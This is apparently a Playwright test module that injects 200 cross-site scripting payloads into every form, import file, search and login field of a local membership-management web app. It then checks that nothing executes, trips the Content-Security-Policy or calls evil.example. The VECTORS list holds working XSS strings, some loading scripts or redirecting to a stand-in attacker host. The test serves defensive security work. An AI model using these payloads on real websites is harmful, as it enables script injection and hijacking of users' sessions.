// Two hundred texts that would run if a page took them for more than text, in every field that takes text.
//
// They are planted in an instance of their own; then its pages are opened, and everything that runs, asks or is stopped
// by the Content-Security-Policy is counted.
import { found, serveEmpty } from "./empty.mjs";
import { discover } from "./links.mjs";

const PASSWORD = "bảy ngọn đồi nắng";

const BREAKOUTS = ["", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>", '"><'];
// Without digits, so that they may stand in names.
const VECTORS = [
  "<script>ran()</script>",
  "<ScRiPt/src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=ran()>",
  "<svg onload=ran()>",
  "<svg><script>ran()</script></svg>",
  "<body onload=ran()>",
  "<details open ontoggle=ran()>",
  "<input autofocus onfocus=ran()>",
  "<iframe srcdoc='<script>top.ran()</script>'>",
  "<iframe src=javascript:top.ran()>",
  "<object data=javascript:ran()>",
  "<embed src=javascript:ran()>",
  "<a href=javascript:ran()>xem</a>",
  "<form action=javascript:ran()><button>gửi</button></form>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example/'>".replace("0;", ";"),
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import'//evil.example/x.css'</style>",
  "<math><mtext><table><mglyph><style><img src onerror=ran()>",
  "<video><source onerror=ran()></video>",
];
export const PAYLOADS = BREAKOUTS.flatMap((breakout) => VECTORS.map((vector) => breakout + vector));

/** Counts, in every page of a context, what ran and what was stopped. */
async function listen(context) {
  const told = { ran: [], stopped: [], asked: [] };
  await context.exposeBinding("tellRan", ({ page }) => told.ran.push(page.url()));
  await context.exposeBinding("tellStopped", ({ page }, what) => told.stopped.push(`${page.url()}: ${what}`));
  await context.addInitScript(() => {
    window.ran = () => window.tellRan();
    document.addEventListener("securitypolicyviolation", (event) => {
      window.tellStopped(`${event.violatedDirective} ${event.blockedURI}`);
    });
  });
  context.on("dialog", (dialog) => {
    told.ran.push(`${dialog.page()?.url()} opens a dialog`);
    void dialog.dismiss();
  });
  context.on("request", (request) => {
    if (new URL(request.url()).hostname.endsWith("evil.example")) {
      told.asked.push(request.url());
    }
  });
  return told;
}

/** Proves that what is counted would be counted. */
async function proveListening(browser) {
  const context = await browser.newContext();
  const told = await listen(context);
  const page = await context.newPage();
  let policy;
  await context.route("http://attack.test/", (route) => {
    route.fulfill({
      contentType: "text/html",
      headers: policy ? { "content-security-policy": policy } : {},
      body: `<!doctype html><title>x</title>${PAYLOADS.slice(0, 4).join("")}`,
    });
  });
  await page.goto("http://attack.test/");
  await page.waitForTimeout(200);
  const ran = told.ran.length;
  policy = "default-src 'none'";
  await page.goto("http://attack.test/");
  await page.waitForTimeout(200);
  await context.close();
  if (ran < 3 || told.stopped.length < 3) {
    throw new Error(`of four attacks on a page without protection ${ran} were seen, with it ${told.stopped.length}`);
  }
}

/** Fields that a form brings along, by name; read once, for what is sent differs in its words. */
const known = new Map();

async function hidden(context, place, action) {
  const key = `${place.split("?")[0]} ${action}`;
  if (!known.has(key)) {
    known.set(key, await read(context, place, action));
  }
  return known.get(key);
}

async function read(context, place, action) {
  const html = await (await context.request.get(place)).text();
  const form = html.split("<form").find((part) => part.includes(`action="${action}"`)) ?? "";
  const fields = [...form.matchAll(/<input type="hidden" name="([^"]+)" value="([^"]*)"/g)];
  return Object.fromEntries(fields.map(([, name, value]) => [name, value.replaceAll("&amp;", "&").replaceAll("&#38;", "&")]));
}

/** Sends a form as the page at `place` would, and gives the answer back. */
async function send(context, server, place, action, fields) {
  const form = { ...(await hidden(context, place, action)), ...fields };
  const headers = { origin: new URL(server).origin };
  const answer = await context.request.post(action, { form, headers, maxRedirects: 0 });
  if (answer.status() >= 400) {
    throw new Error(`${action} refuses ${JSON.stringify(fields)}: ${answer.status()}`);
  }
  return answer;
}

/** As many of them as fit into so many letters, each whole; what is longer stands alone. */
function packed(longest) {
  const texts = [""];
  for (const payload of PAYLOADS.filter((payload) => payload.length <= longest)) {
    if (texts.at(-1).length + payload.length + 1 > longest) {
      texts.push("");
    }
    texts.push(`${texts.pop()} ${payload}`.trim());
  }
  return texts;
}

export async function attack(browser, nguon, plan, check) {
  await check("attacks: what runs would be seen", () => proveListening(browser));
  const server = await serveEmpty(nguon);
  const context = await browser.newContext({ baseURL: server.base, locale: "vi-VN", reducedMotion: "reduce" });
  const told = await listen(context);
  const page = await context.newPage();
  const visited = new Set();
  const visit = async (place) => {
    const response = await page.goto(place, { waitUntil: "load" });
    if (response.status() >= 500) {
      throw new Error(`${place} answers ${response.status()}`);
    }
    visited.add(place);
  };
  try {
    let top = "";
    await check("attacks: founded", async () => {
      await page.goto(server.begin);
      await found(page, {
        name: `Đảng bộ xã ${PAYLOADS[0]}`,
        kind: "grassroots_committee_org",
        below: PAYLOADS.map((payload) => `Chi bộ ${payload}`).join("\n"),
        officer: `Khúc ${PAYLOADS[21]}`,
        login: "ha.kt",
        new: PASSWORD,
        again: PASSWORD,
      });
      const link = page.locator('main a[href$="/nominate"]').first();
      top = new URL(await link.getAttribute("href"), server.base).pathname.replace("/nominate", "");
      await visit(`${top}/units`);
    });
    const cells = await page.$$eval("main a[href^='/units/']", (links) => [...new Set(links.map((link) => new URL(link.href).pathname))]);
    const planted = [];
    await check("attacks: people, acts and notes", async () => {
      const unit = cells.find((cell) => cell !== top && !cell.endsWith("/units")) ?? top;
      // As many to a person as fit, so that there are fewer pages to open.
      const texts = packed(180);
      for (const [at, text] of texts.entries()) {
        const place = `${unit}/nominate`;
        const sent = await send(context, server.base, place, place, {
          name: `Khúc ${text}`,
          born: String(1960 + (at % 40)),
          sex: "female",
          on: "5/10/2020",
          by: text,
          occupation: text,
          residence: text,
        });
        planted.push(sent.headers().location.split("?")[0]);
      }
      // Each kind of act with words, and a note, on a person each.
      for (const [at, words] of texts.entries()) {
        const person = planted[at];
        await page.goto(`${person}/acts?deed=stopped`);
        const forms = await page.locator("main form").count();
        const fields = page.locator("main form input:not([type=hidden]):not([type=radio]), main form textarea");
        for (let field = 0; forms > 0 && field < (await fields.count()); field += 1) {
          const name = await fields.nth(field).getAttribute("name");
          await fields.nth(field).fill(name === "on" ? "6/10/2020" : words);
        }
        if (forms > 0) {
          await Promise.all([page.waitForEvent("load"), page.locator("main form button[type=submit]").first().click()]);
        }
        await page.goto(person);
        const note = page.locator('main a[href*="/notes"]').first();
        if ((await note.count()) > 0) {
          await Promise.all([page.waitForEvent("load"), note.click()]);
          await page.locator("main form textarea").first().fill(words);
          await Promise.all([page.waitForEvent("load"), page.locator("main form button[type=submit]").first().click()]);
        }
      }
    });
    await check("attacks: accounts, lists and workbooks", async () => {
      for (const [at, words] of packed(180).entries()) {
        const place = `${top}/accounts/new`;
        await send(context, server.base, place, place, { name: words, login: `thu.${at}`, role: "leader", from: "31/10/2020", at: top.split("/").at(-1) });
      }
      for (const words of packed(60).slice(0, 28)) {
        await send(context, server.base, `${top}/views/new?of=everybody`, `${top}/views`, {
          name: words,
          who: "shared",
          days: "open",
          query: `of=everybody&q=${encodeURIComponent(words)}`,
        });
      }
      for (let at = 0; at < PAYLOADS.length; at += 25) {
        const some = PAYLOADS.slice(at, at + 25);
        const quoted = (text) => `"${text.replaceAll('"', '""')}"`;
        const lines = [
          ["Họ và tên", "Ngày sinh", "Đảng bộ", "Ngày quyết định", "Ngày kết nạp", ...some],
          ...some.map((words) => [`Khúc ${words}`, words, `Chi bộ ${words}`, words, "05/06/2020", ...some]),
        ];
        await page.goto(`${top}/import`);
        await page.locator("#files").setInputFiles({
          name: `${some[2].replaceAll("/", "_")}.csv`,
          mimeType: "text/csv",
          buffer: Buffer.from(lines.map((line) => line.map(quoted).join(";")).join("\n")),
        });
        await Promise.all([page.waitForEvent("load"), page.locator("main form[enctype] button[type=submit]").first().click()]);
        visited.add(page.url());
        for (const button of await page.locator('main button[value="write"]').all()) {
          await Promise.all([page.waitForEvent("load"), button.click()]);
          visited.add(page.url());
          break;
        }
      }
    });
    await check("attacks: the pages", async () => {
      const { pages, others } = await discover(context, server.base, { ...plan, leaveOut: ["/help"], pages: [`${top}/people?of=everybody`] });
      for (const place of [...planted, ...pages, ...others]) {
        if (!/\.(xlsx|csv)(\?|$)/.test(place) && !place.includes("/copies/")) {
          await visit(place);
        }
      }
      for (const words of packed(100)) {
        const asked = encodeURIComponent(words);
        await visit(`/find?q=${asked}`);
        await visit(`${top}/people?of=everybody&q=${asked}&stage=${asked}&nominated_from=${asked}&from=${asked}`);
        await visit(`/${asked}`);
      }
    });
    await check("attacks: forms that come back", async () => {
      const forms = await discover(context, server.base, { ...plan, leaveOut: ["/help"] });
      for (const place of forms.pages) {
        await page.goto(place);
        const texts = page.locator("main form[method=post] input:not([type]), main form[method=post] textarea");
        if ((await texts.count()) === 0) {
          continue;
        }
        // Some are folded away, so they are filled in behind the scenes.
        const sent = page.waitForEvent("load");
        await texts.first().evaluate((input, words) => {
          for (const [at, field] of [...input.form.elements].entries()) {
            if (field.type === "text" || field.type === "textarea") {
              field.value = words[at % words.length];
            }
          }
          input.form.requestSubmit();
        }, packed(180));
        await sent;
        visited.add(`${place} sent`);
      }
      await page.goto("/me");
      await Promise.all([page.waitForEvent("load"), page.locator(plan.signOut).first().click()]);
      for (const words of packed(180).slice(0, 6)) {
        await page.goto(`/session?to=${encodeURIComponent(words)}`);
        await page.locator("main [name=login]").fill(words);
        await page.locator("main [name=password]").fill(words);
        await Promise.all([page.waitForEvent("load"), page.locator("main form button[type=submit]").first().click()]);
        visited.add(page.url());
      }
    });
    await check("attacks: nothing ran, nothing had to be stopped, nobody was called", async () => {
      const counted = { ran: told.ran.length, stopped: told.stopped.length, asked: told.asked.length };
      console.log(`attacks: ${PAYLOADS.length} payloads, ${visited.size} pages: ${JSON.stringify(counted)}`);
      if (told.ran.length + told.stopped.length + told.asked.length > 0) {
        throw new Error([...told.ran, ...told.stopped, ...told.asked].slice(0, 10).join("\n    "));
      }
      if (visited.size < 250) {
        throw new Error(`only ${visited.size} pages were opened`);
      }
    });
  } finally {
    await context.close();
    await server.close();
  }
}
